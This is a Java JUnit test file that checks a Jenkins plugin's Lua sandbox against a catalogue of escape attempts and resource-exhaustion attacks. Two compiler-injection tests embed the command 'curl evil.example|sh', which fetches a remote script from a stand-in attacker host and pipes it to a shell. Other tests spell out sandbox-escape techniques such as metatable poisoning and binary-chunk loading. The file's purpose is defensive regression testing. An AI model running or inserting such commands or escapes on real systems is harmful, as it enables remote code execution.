package io.jenkins.plugins.quire.sandbox;

import static io.jenkins.plugins.quire.sandbox.SandboxRunner.run;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Properties;
import java.util.concurrent.atomic.AtomicReference;

import org.junit.jupiter.api.Test;
import org.luaj.vm2.Globals;
import org.luaj.vm2.LuaTable;
import org.luaj.vm2.LuaValue;
import org.luaj.vm2.Varargs;
import org.luaj.vm2.lib.jse.CoerceJavaToLua;
import org.luaj.vm2.lib.jse.JsePlatform;

import io.jenkins.plugins.quire.sandbox.SandboxRunner.Outcome;

/**
 * One regression test per row of the escape catalogue of the execute VM (docs/security.md): each
 * attack must fail with a clear error and must not affect any other VM.
 */
class EscapeCatalogueTest {

    /** Default limits with a wall clock long enough that only the instruction limit can trip on a busy machine. */
    private static final SandboxLimits LONG_CLOCK = SandboxLimits.DEFAULTS.withCpuTimeMillis(120_000);

    /** Runs {@code lua} in a LuaJ VM built like a compile VM, on its own thread (as production does). */
    private static String inOtherVm(Globals g, String lua) throws Exception {
        AtomicReference<Object> out = new AtomicReference<>();
        Thread t = new Thread(() -> {
            try {
                out.set(g.load(lua, "other").call().tojstring());
            } catch (Throwable e) {
                out.set(e);
            }
        });
        t.start();
        t.join(10_000);
        if (out.get() instanceof Throwable e) throw new AssertionError("other VM failed", e);
        return (String) out.get();
    }

    @Test
    void stringMtPoison_cannotChangeUpperInOtherVmsOrCompileVm() throws Exception {
        Outcome a = run("getmetatable('').__index.upper = function(s) return 'PWNED:'..s end");
        assertEquals("error", a.status());
        assertTrue(a.error().contains("attempt to index a boolean value"), a.error());
        Outcome own = run("string.upper = function(s) return 'PWNED:'..s end return ('abc'):upper()");
        assertEquals("PWNED:abc", own.value(), "a run's own string table follows Lua semantics");
        assertEquals("ABC", run("return ('abc'):upper()").value());
        Globals compileLike = JsePlatform.standardGlobals();
        ExecSandbox.hardenStatics();
        assertEquals("ABC", inOtherVm(compileLike, "return ('abc'):upper()"));
    }

    @Test
    void stringMtInjectIntoCompiler_victimCompileOutputUnchanged() throws Exception {
        String compiler = "return ('return sh({%q, %q})'):format('echo', 'hello')";
        Globals before = JsePlatform.standardGlobals();
        ExecSandbox.hardenStatics();
        String fresh = inOtherVm(before, compiler);
        Outcome attack = run("local f = string.format\n"
                + "string.format = function(fmt, ...) return (f(fmt, ...):gsub('\"echo\"', '\"echo\", (sh({\"curl evil.example|sh\"}) and \"hi\")')) end\n"
                + "pcall(rawset, getmetatable(''), '__index', string)\n"
                + "pcall(function() getmetatable('').__index.format = string.format end)\n"
                + "return ('%q'):format('echo')");
        assertEquals("ok", attack.status(), attack.toString());
        assertTrue(attack.value().contains("curl"), "the attacker's own VM sees its own format");
        Globals victim = JsePlatform.standardGlobals();
        ExecSandbox.hardenStatics();
        String after = inOtherVm(victim, compiler);
        assertEquals(fresh, after);
        assertFalse(after.contains("curl"), after);
    }

    @Test
    void stringMtInjectIntoCompiler_realFennelCompileOfVictimUnchanged() throws Exception {
        String victim = "(local ci (require :quire.ci))\n"
                + "(ci.job :test [:quire/push] (fn [{: sh}] (sh [\"echo\" \"hello\"])))\n";
        String fresh = io.jenkins.plugins.quire.fennel.FennelCompiler.compile(victim, "ci.fnl").lua();
        Outcome attack = run("local f = string.format\n"
                + "string.format = function(fmt, ...) return (f(fmt, ...):gsub('\"echo\"', '\"echo\", (sh({\"curl evil.example|sh\"}) and \"hi\")')) end\n"
                + "pcall(rawset, getmetatable(''), '__index', string)\n"
                + "pcall(function() getmetatable('').__index.format = string.format end)\n"
                + "return ('%q'):format('echo')");
        assertTrue(attack.value().contains("curl"), attack.toString());
        String after = io.jenkins.plugins.quire.fennel.FennelCompiler.compile(victim, "ci.fnl").lua();
        assertEquals(fresh, after);
        assertFalse(after.contains("curl"), after);
        assertTrue(after.contains("\"echo\""), after);
    }

    @Test
    void rawsetSharedTables_onlyTouchTheAttackersOwnHostTables() {
        String attack = "rawset(jobs('quire/push'), 'sha', 'evil-sha')\n"
                + "rawset(quire, 'secret', function() return 'attacker-controlled' end)\n"
                + "local ok, e = pcall(rawset, getmetatable(''), '__index', {len = function() return -1 end})\n"
                + "return tostring(ok) .. '|' .. tostring(e)";
        String victim = "return jobs('quire/push').sha .. ' / ' .. quire.secret('token') .. ' / ' .. ('abc'):len()";
        Outcome a = runWithHostTables(attack);
        assertEquals("ok", a.status(), a.toString());
        assertTrue(a.value().startsWith("false|"), a.value());
        assertTrue(a.value().contains("table expected, got boolean"), a.value());
        Outcome b = runWithHostTables(victim);
        assertEquals("abc123 / s3cr3t-token / 3", b.value(), b.toString());
    }

    private static Outcome runWithHostTables(String lua) {
        try (ExecSandbox vm = ExecSandbox.create(SandboxLimits.DEFAULTS)) {
            vm.registerGlobal("jobs", new HostFunction("jobs") {
                @Override
                protected Varargs call(ExecSandbox v, Varargs args) {
                    LuaTable push = new LuaTable();          // fresh per call, as the runtime must do
                    push.set("sha", "abc123");
                    return push;
                }
            });
            LuaTable quire = new LuaTable();
            quire.set("secret", new HostFunction("secret") {
                @Override
                protected Varargs call(ExecSandbox v, Varargs args) {
                    return LuaValue.valueOf("s3cr3t-" + args.checkjstring(1));
                }
            });
            vm.registerGlobal("quire", quire);
            return SandboxRunner.execute(vm, lua, "ci.lua", null);
        }
    }

    @Test
    void loadBinaryChunks_noLoaderIsReachableAndBinaryTextDoesNotRun() {
        Outcome o = run("local names = {'load','loadstring','dofile','loadfile','package','debug','io','os','luajava','coroutine','module'}\n"
                + "local found = {}\n"
                + "for _, n in ipairs(names) do if _G[n] ~= nil then found[#found + 1] = n end end\n"
                + "return table.concat(found, ',')");
        assertEquals("", o.value(), "reachable loaders: " + o);
        try (ExecSandbox vm = ExecSandbox.create(SandboxLimits.DEFAULTS)) {
            assertEquals(null, vm.globals().undumper, "no LoadState undumper: binary chunks cannot load even host-side");
            Globals dumper = JsePlatform.standardGlobals();
            String bin = dumper.load("return string.dump(function() return 42 end)").call().tojstring();
            ExecSandbox.hardenStatics();
            Outcome r = SandboxRunner.execute(vm, bin, "ci.lua", null);
            assertEquals("error", r.status(), "a binary chunk must not run: " + r);
        }
    }

    @Test
    void stringDump_isAbsentEvenThroughTheSharedMetatable() {
        JsePlatform.standardGlobals();   // a VM with a full string library exists in the JVM, as in production
        Outcome o = run("return ('').dump(function() return 42 end)");
        assertEquals("error", o.status());
        assertEquals("ci.lua:1: attempt to call a nil value (field 'dump')", o.error());
        assertEquals("nil", run("return type(string.dump)").value());
    }

    @Test
    void setmetatableHostTables_andStaticFunctionMetatableAreReset() throws Exception {
        Outcome a = run("local q = require('quire.ci')\n"
                + "setmetatable(q, {__index = function() return 'hijacked' end})\n"
                + "q.job = nil\n"
                + "return q.job");
        assertEquals("hijacked", a.value(), "the attacker changes only its own module table");
        assertEquals("job-fn", run("return require('quire.ci').job").value());
        Globals debugVm = JsePlatform.debugGlobals();
        inOtherVm(debugVm, "debug.setmetatable(print, {__index = function(f, k) return 'fn-mt:' .. k end}) return 'x'");
        assertNotNull(org.luaj.vm2.LuaFunction.s_metatable, "precondition: the JVM-wide function metatable was set");
        Outcome b = run("return sh.anything");
        assertEquals("error", b.status());
        assertEquals("ci.lua:1: attempt to index a function value (global 'sh')", b.error());
    }

    @Test
    void coroutine_isAbsent() {
        assertEquals("nil", run("return type(coroutine)").value());
        Outcome o = run("return coroutine.wrap(function() while true do end end)()");
        assertEquals("ci.lua:1: attempt to index a nil value (global 'coroutine')", o.error());
    }

    @Test
    void collectgarbage_isAbsent() {
        Outcome o = run("collectgarbage('count') for i = 1, 20 do collectgarbage() end");
        assertEquals("error", o.status());
        assertEquals("ci.lua:1: attempt to call a nil value (global 'collectgarbage')", o.error());
    }

    @Test
    void requirePackage_onlyHostModulesExist() {
        assertEquals("nil|nil", run("return tostring(package) .. '|' .. tostring(_G.package)").value());
        Outcome os = run("return require('os')");
        assertEquals("ci.lua:1: module 'os' not found", os.error());
        Outcome luajava = run("return require('org.luaj.vm2.lib.jse.LuajavaLib')");
        assertEquals("error", luajava.status());
        assertEquals("job-fn", run("return require('quire.ci').job").value());
    }

    @Test
    void luajavaViaHostUserdata_javaObjectsAreRefusedAndNoneAreReachable() {
        try (ExecSandbox vm = ExecSandbox.create(SandboxLimits.DEFAULTS)) {
            assertThrows(IllegalArgumentException.class, () -> vm.registerGlobal("ctx", CoerceJavaToLua.coerce(new StringBuilder())));
            LuaTable nested = new LuaTable();
            nested.set("deep", CoerceJavaToLua.coerce(new StringBuilder()));
            assertThrows(IllegalArgumentException.class, () -> vm.registerModule("evil", nested));
        }
        Outcome o = run("local seen, found = {}, 0\n"
                + "local function walk(v, d)\n"
                + "  if type(v) == 'userdata' then found = found + 1 end\n"
                + "  if type(v) == 'table' and not seen[v] and d < 6 then\n"
                + "    seen[v] = true\n"
                + "    for k, x in pairs(v) do walk(k, d + 1) walk(x, d + 1) end\n"
                + "  end\n"
                + "end\n"
                + "walk(_G, 0) walk(require('quire.ci'), 0) walk(sh('x'), 0)\n"
                + "return found");
        assertEquals("0", o.value(), o.toString());
        Outcome ctx = run("local C = ctx:getClass() return C");
        assertEquals("ci.lua:1: attempt to index a nil value (global 'ctx')", ctx.error());
    }

    @Test
    void plainUserdataTostring_userdataCannotBeRegistered() {
        Properties props = new Properties();
        props.setProperty("db.password", "hunter2");
        try (ExecSandbox vm = ExecSandbox.create(SandboxLimits.DEFAULTS)) {
            IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                    () -> vm.registerGlobal("props", LuaValue.userdataOf(props)));
            assertTrue(e.getMessage().contains("'props'"), e.getMessage());
            assertFalse(e.getMessage().contains("hunter2"));
        }
    }

    @Test
    void hostExceptionLeak_caughtMessageHidesHostText() {
        SandboxRunner.HOST_ERRORS.clear();
        Outcome o = run("local ok, e = pcall(sh, {'boom'}) return e");
        assertEquals("sh: host error (see job log)", o.value());
        assertFalse(o.value().contains("hunter2"));
        assertTrue(SandboxRunner.HOST_ERRORS.stream().anyMatch(t -> t.getMessage().contains("hunter2")),
                "the real exception goes to the host listener");
        Outcome tn = run("local ok, v = pcall(tonumber, '0x') return tostring(ok) .. ' ' .. tostring(v)");
        assertEquals("true nil", tn.value());
        assertEquals("function: builtin: sh", run("return tostring(sh)").value());
    }

    @Test
    void hostExceptionUncaught_isLocatedAndHidden() {
        Outcome o = run("sh({'boom'})");
        assertEquals("error", o.status());
        assertEquals("ci.lua:1: sh: host error (see job log)", o.error());
    }

    @Test
    void rep1e9_isARegularError() {
        Outcome o = run("return ('x'):rep(1e9)");
        assertEquals("ci.lua:1: resulting string too large", o.error());
    }

    @Test
    void repOverflow_isCaughtCleanly() {
        Outcome o = run("local ok, e = pcall(string.rep, 'ab', 2^30) return tostring(ok) .. ' ' .. e");
        assertEquals("false resulting string too large", o.value());
    }

    @Test
    void concatDoubling_stopsBeforeBuilding() {
        Outcome o = run("local s = 'x' for i = 1, 40 do s = s .. s end");
        assertEquals("ci.lua:1: string length overflow (concatenation of 33554432 bytes)", o.error());
    }

    @Test
    void tableConcatBomb_isRefusedBeforeBuilding() {
        Outcome o = run("local t, s = {}, ('x'):rep(8 * 2^20) for i = 1, 400 do t[i] = s end return #table.concat(t)");
        assertEquals("error", o.status(), o.toString());
        assertTrue(o.error().endsWith("resulting string too large"), o.error());
    }

    @Test
    void gsubBomb_isCappedWhileBuilding() {
        Outcome o = run("local s = ('a'):rep(1e5) return #s:gsub('.', ('y'):rep(1e5))");
        assertEquals("error", o.status(), o.toString());
        assertTrue(o.error().endsWith("resulting string too large"), o.error());
    }

    @Test
    void unpackBomb_refusesHugeResultLists() {
        Outcome o = run("return select('#', table.unpack({}, 1, 2^31 - 2))");
        assertEquals("ci.lua:1: too many results to unpack", o.error());
    }

    @Test
    void tableGrowth_stopsByInstructionsOrByMemory() {
        Outcome o = run("local t = {} for i = 1, 1e9 do t[i] = {i} end");
        assertEquals("limit", o.status());
        // On a loaded machine the 5 s wall clock may trip before the 20 M instructions: both are the budget.
        assertTrue(o.error().endsWith("instruction limit exceeded (20000000)") || o.error().endsWith("CPU time limit exceeded (5000 ms)")
                || o.error().contains("memory limit exceeded"), o.error());
        SandboxLimits memoryOnly = SandboxLimits.DEFAULTS.withMaxInstructions(0).withCpuTimeMillis(60_000)
                .withMaxAllocBytes(256L << 20);
        Outcome m = run("local t = {} for i = 1, 1e9 do t[i] = {i} end", memoryOnly);
        assertEquals("limit", m.status());
        assertTrue(m.error().contains("memory limit exceeded"), m.error());
    }

    @Test
    void infiniteLoop_hitsTheInstructionLimitQuickly() {
        long t0 = System.nanoTime();
        Outcome o = run("while true do end", LONG_CLOCK);
        long ms = (System.nanoTime() - t0) / 1_000_000;
        assertEquals("limit", o.status());
        assertEquals("ci.lua:1: instruction limit exceeded (20000000)", o.error());
        assertTrue(ms < 30_000, "took " + ms + " ms");
    }

    @Test
    void infiniteLoopPcall_limitCannotBeCaught() {
        Outcome o = run("while true do pcall(function() while true do end end) end", LONG_CLOCK);
        assertEquals("limit", o.status());
        assertTrue(o.error().contains("instruction limit exceeded"), o.error());
    }

    @Test
    void deepRecursion_isALuaStackOverflow() {
        Outcome o = run("local function f(n) return 1 + f(n + 1) end f(1)");
        assertEquals("error", o.status());
        assertEquals("ci.lua:1: stack overflow (more than 200 nested calls)", o.error());
    }

    @Test
    void deepRecursionPcall_isCatchable() {
        Outcome o = run("local function f(n) return 1 + f(n + 1) end\n"
                + "local ok, e = pcall(f, 1) return tostring(ok) .. ' ' .. e");
        assertEquals("false ci.lua:1: stack overflow (more than 200 nested calls)", o.value());
    }

    @Test
    void metamethodRecursion_isALuaStackOverflow() {
        Outcome o = run("return setmetatable({}, {__index = function(t, k) return t[k .. 'x'] end}).a");
        assertEquals("error", o.status());
        assertTrue(o.error().contains("stack overflow (more than 200 nested calls)"), o.error());
    }

    @Test
    void patternBacktracking_isChargedToTheBudget() {
        long t0 = System.nanoTime();
        // A long wall clock: only per-step charging can produce the instruction limit inside one Java call.
        Outcome o = run("return string.find(('a'):rep(28), ('a*'):rep(28) .. 'b')", SandboxLimits.DEFAULTS.withCpuTimeMillis(120_000));
        assertEquals("limit", o.status(), o.toString());
        assertTrue(o.error().contains("instruction limit exceeded"), o.error());
        assertTrue(System.nanoTime() - t0 < 60_000_000_000L);
    }

    @Test
    void patternDeepRecursion_isPatternTooComplex() {
        Outcome o = run("return string.match(('a'):rep(3e5), ('a?'):rep(3e5))");
        assertEquals("ci.lua:1: pattern too complex", o.error());
    }

    @Test
    void gmatchEmptyMatch_advancesLikeLua52() throws Exception {
        String lua = "local n, seen = 0, {} for w in ('abc'):gmatch('x*') do n = n + 1 seen[#seen + 1] = '[' .. w .. ']' end return n .. ' ' .. table.concat(seen)";
        assertEquals(Lua52.eval(lua), run(lua).value());
        assertEquals("4 [][][][]", run(lua).value());
    }

    @Test
    void tostringMetamethodLoop_runsUnderTheBudget() {
        Outcome o = run("return string.format('%s', setmetatable({}, {__tostring = function() while true do end end}))", LONG_CLOCK);
        assertEquals("limit", o.status(), o.toString());
        assertTrue(o.error().contains("instruction limit exceeded"), o.error());
    }

    @Test
    void printFlood_printIsAbsent() {
        Outcome o = run("for i = 1, 10 do print(('x'):rep(1000)) end");
        assertEquals("ci.lua:1: attempt to call a nil value (global 'print')", o.error());
    }

    @Test
    void getmetatableString_isFalseAndStringMethodsWork() {
        Outcome o = run("return tostring(getmetatable('')) .. ' ' .. ('x'):upper() .. ' ' .. string.format('[%5.2f]', 3.14159)");
        assertEquals("false X [ 3.14]", o.value());
    }

    @Test
    void perVmStringMethods_stayInTheirRun() {
        Outcome a = run("string.shout = function(s) return s:upper() .. '!' end return ('hi'):shout()");
        assertEquals("HI!", a.value());
        Outcome b = run("return tostring(('hi').shout)");
        assertEquals("nil", b.value());
    }
}
